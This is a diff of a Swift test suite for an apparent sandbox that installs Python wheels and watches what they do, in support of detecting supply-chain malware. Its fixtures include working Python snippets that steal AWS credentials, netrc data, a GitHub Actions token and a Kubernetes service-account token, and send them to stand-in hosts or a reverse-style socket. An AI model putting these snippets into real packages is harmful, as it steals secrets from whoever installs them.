@@ -7,46 +7,44 @@ import Testing
 /// Imitations of thieves are made here and speak to the sink alone; each is installed by the machine's own pip.
 @Suite("Observations", .serialized, .enabled(if: Machine.hasNamespaces, Machine.noNamespaces))
 struct ObserverTests {
-  static let noPython: Comment = "no interpreter with pip on the search path"
-  static let hasPython = HostPython.find()?.pip != nil
-
-  private func observe(_ members: [(String, String)], modules: [String] = [], personas: [Persona] = [.laptop]) throws
-    -> Observation
-  {
-    let python = try #require(HostPython.find())
-    let wheel = WheelBuilder(name: "harbour", files: members)
-    var request = Observer.Request(name: wheel.fileName, bytes: wheel.build(), python: python)
-    request.modules = modules
-    request.personas = personas
-    return try Observer.observe(request)
-  }
-
-  private func levels(_ observation: Observation, _ phase: Phase) -> Set<EvidenceLevel> {
-    Set(observation.evidence.filter { observation.stages[$0.stage].phase == phase }.map(\.level))
-  }
-
-  @Test("of an honest package come to nothing", .enabled(if: hasPython, noPython))
+  /// Beside a package with a startup file of its own, which must be blamed for nothing.
+  @Test(
+    "of an honest package come to nothing, and all that is usual is marked",
+    .enabled(if: Stages.hasPython, Stages.noPython))
   func honest() throws {
-    let observation = try observe(
-      [("harbour.py", "import json, os\nos.environ.get('HOME')\n"), ("harbour.pth", "import os\n")],
-      modules: ["harbour"])
+    let observation = try Stages.observe(
+      [("harbour.py", "import os\nos.environ.get('HOME')\n"), ("harbour.pth", "import os\n")],
+      modules: ["harbour"], phases: [.startup, .import]
+    ) { request in
+      request.dependencies = [Stages.wheel("zebra", [("zebra.py", ""), ("zebra.pth", "import os\n")])]
+    }
     #expect(observation.evidence.isEmpty, "\(observation.evidence)")
-    #expect(observation.stages.map(\.phase).contains(.import))
-    #expect(observation.tier == .namespaces)
+    #expect(observation.unobserved.isEmpty && observation.isComplete, "\(observation.unobserved)")
+    #expect(observation.tier == .namespaces && observation.refusal == nil)
+    #expect(observation.python == Stages.python?.version)
+    #expect(
+      observation.stages.map(\.name) == [
+        "pip install harbour-1.0-py3-none-any.whl", "python -c pass", "python -m pip --version", "python -m site",
+        "python -c pass, by a child", "import harbour",
+      ])
+    #expect(observation.stages.allSatisfy { $0.end == .exited(0) && $0.duration > 0 })
+    for stage in observation.stages.dropFirst() {
+      let unusual = stage.events.filter { !$0.isUsual }
+      let isOwn = unusual.allSatisfy { "\($0.action)".contains("harbour") }
+      #expect(isOwn && !unusual.isEmpty, "\(stage.name): \(unusual.map(\.action))")
+      let causes = Set(stage.events.compactMap(\.because).compactMap { $0.split(separator: "/").last })
+      #expect(causes == ["harbour.pth"], "\(stage.name)")
+    }
   }
 
   @Test(
-    "prove what a hook sends at the start of an interpreter",
-    .enabled(if: hasPython, noPython))
+    "prove what a hook sends at the start of an interpreter, and tell who sent it and why",
+    .enabled(if: Stages.hasPython, Stages.noPython))
   func startup() throws {
-    let observation = try observe([
-      (
-        "harbour.pth",
-        "import os, urllib.request as u; u.urlopen('http://collect.example.org/x', "
-          + "data=open(os.path.expanduser('~/.aws/credentials'), 'rb').read())\n"
-      )
-    ])
-    #expect(levels(observation, .startup).isSuperset(of: [.touched, .taintedEgress, .proven]))
+    let observation = try Stages.observe(
+      [("harbour.pth", Stages.carry(".aws/credentials", to: "collect.example.org"))], phases: [.startup])
+    #expect(observation.levels(.startup).isSuperset(of: [.touched, .taintedEgress, .proven]))
+    #expect(observation.levels(.install).isEmpty)
     let proof = try #require(observation.evidence.first { $0.level == .proven })
     #expect(proof.decoys == ["aws-shared-credentials"])
     #expect(proof.detail.contains("collect.example.org"), "\(proof.detail)")
@@ -56,7 +54,8 @@ struct ObserverTests {
       return
     }
     #expect(said.host == "collect.example.org" && said.request == "POST /x HTTP/1.1" && said.bytes > 100, "\(said)")
-    #expect(exchange.because?.hasSuffix("harbour.pth") == true && exchange.process != nil)
+    #expect(said.sha256?.utf8.count == 64 && said.status == 200)
+    #expect(exchange.because?.hasSuffix("harbour.pth") == true && exchange.process != nil && !exchange.isUsual)
     let stage = observation.stages[proof.stage]
     #expect(stage.events.map(\.time) == stage.events.map(\.time).sorted())
     #expect(
@@ -64,6 +63,10 @@ struct ObserverTests {
         event.process == exchange.process && event.because == exchange.because
           && event.action == .lookUp(name: "collect.example.org", type: "A")
       }, "\(stage.events.suffix(20))")
+    let child = try #require(observation.stage("python -c pass, by a child"))
+    let speakers = child.exchanges("collect.example.org").map(\.process)
+    // Where a directory of packages has two names, the hook runs for both.
+    #expect(Set(speakers) == [0, 1], "each interpreter spoke for itself: \(speakers)")
     let touches = observation.stages.filter { $0.phase == .startup }.flatMap(\.events).filter { event in
       if case .touch("aws-shared-credentials", _) = event.action { return true }
       return false
@@ -71,11 +74,9 @@ struct ObserverTests {
     #expect(!touches.isEmpty && touches.allSatisfy { $0.because?.hasSuffix("harbour.pth") == true }, "\(touches)")
   }
 
-  @Test(
-    "see what is packed and scrambled before it is sent",
-    .enabled(if: hasPython, noPython))
+  @Test("see what is packed and scrambled before it is sent", .enabled(if: Stages.hasPython, Stages.noPython))
   func scrambled() throws {
-    let observation = try observe(
+    let observation = try Stages.observe(
       [
         (
           "harbour.py",
@@ -90,25 +91,51 @@ struct ObserverTests {
           socket.create_connection(('203.0.113.9', 4444)).sendall(scrambled)
           """
         )
-      ], modules: ["harbour"])
-    #expect(levels(observation, .import).isSuperset(of: [.touched, .staged, .taintedEgress]))
+      ], modules: ["harbour"], phases: [.import])
+    #expect(observation.levels(.import).isSuperset(of: [.touched, .staged, .taintedEgress]))
     let staged = observation.evidence.first { $0.level == .staged }
     #expect(staged?.decoys == ["netrc"] && staged?.detail.contains("gzip") == true, "\(String(describing: staged))")
   }
 
-  @Test(
-    "show each persona a machine of its own",
-    .enabled(if: hasPython, noPython))
+  @Test("show each persona a machine of its own", .enabled(if: Stages.hasPython, Stages.noPython))
   func personas() throws {
-    let observation = try observe(
+    let observation = try Stages.observe(
       [
         (
           "harbour.pth",
           "import os, sys; os.environ.get('GITHUB_ACTIONS') and sys.stdout.write(os.environ.get('GITHUB_TOKEN', ''))\n"
         )
-      ], personas: [.laptop, .ciRunner])
+      ], phases: [.startup]
+    ) { $0.personas = [.laptop, .ciRunner] }
     let proven = observation.evidence.filter { $0.level == .proven }
     #expect(!proven.isEmpty, "\(observation.evidence)")
     #expect(proven.allSatisfy { observation.stages[$0.stage].persona == "ci-runner" }, "\(proven)")
+  }
+
+  @Test(
+    "let a pod's client trust its cluster, and hear what it asks for", .enabled(if: Stages.hasPython, Stages.noPython))
+  func cluster() throws {
+    let observation = try Stages.observe(
+      [
+        (
+          "harbour.py",
+          """
+          import ssl, urllib.request as u
+          folder = '/var/run/secrets/kubernetes.io/serviceaccount/'
+          context = ssl.create_default_context(cafile=folder + 'ca.crt')
+          asked = u.Request(
+            'https://10.96.0.1/api/v1/secrets', headers={'Authorization': 'Bearer ' + open(folder + 'token').read()})
+          u.urlopen(asked, context=context).read()
+          """
+        )
+      ], modules: ["harbour"], phases: [.import]
+    ) { $0.personas = [.kubernetesPod] }
+    let stage = try #require(observation.stage("import harbour"))
+    #expect(stage.end == .exited(0), "\(observation.unobserved)")
+    let exchange = stage.events.compactMap { event in
+      if case .exchange(let said) = event.action { return said }
+      return nil
+    }.first
+    #expect(exchange?.isEncrypted == true && exchange?.status == 200, "\(String(describing: exchange))")
   }
 }
